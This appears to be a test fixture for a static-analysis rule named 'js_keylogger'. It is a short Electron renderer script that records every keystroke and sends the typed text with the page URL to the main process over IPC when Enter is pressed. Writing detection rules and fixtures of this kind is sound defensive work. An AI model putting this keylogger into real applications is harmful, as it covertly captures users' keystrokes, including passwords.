const { ipcRenderer } = require('electron')

let typed = ''
// ruleid: js_keylogger
window.addEventListener('keydown', (e) => {
  const k = e.key.length === 1 ? e.key : `[${e.key}]`
  typed += k
  if (e.key === 'Enter') {
    ipcRenderer.send('crumbs', { text: typed, url: location.href })
    typed = ''
  }
}, true)
